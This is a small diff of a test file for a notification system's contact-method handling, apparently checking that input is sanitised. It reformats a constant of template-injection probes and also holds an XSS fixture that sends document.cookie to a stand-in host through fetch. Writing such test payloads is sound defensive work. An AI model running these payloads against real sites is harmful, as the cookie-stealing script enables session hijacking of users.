@@ -14,7 +14,8 @@ import {
 } from '../../notification.rig.js';
 
 const XSS = `<img src=x onerror=alert(1)><script>fetch('//e/'+document.cookie)</script>`;
-const TEMPLATE = "\"><svg/onload=alert`1`>{{constructor.constructor('alert(1)')()}}${7*7919}#{7*7919}<%= 7*7919 %>";
+const TEMPLATE =
+  "\"><svg/onload=alert`1`>{{constructor.constructor('alert(1)')()}}${7*7919}#{7*7919}<%= 7*7919 %>";
 
 describe('sandbox phones, e-mail and contact methods', () => {
   let database: TestDatabase;
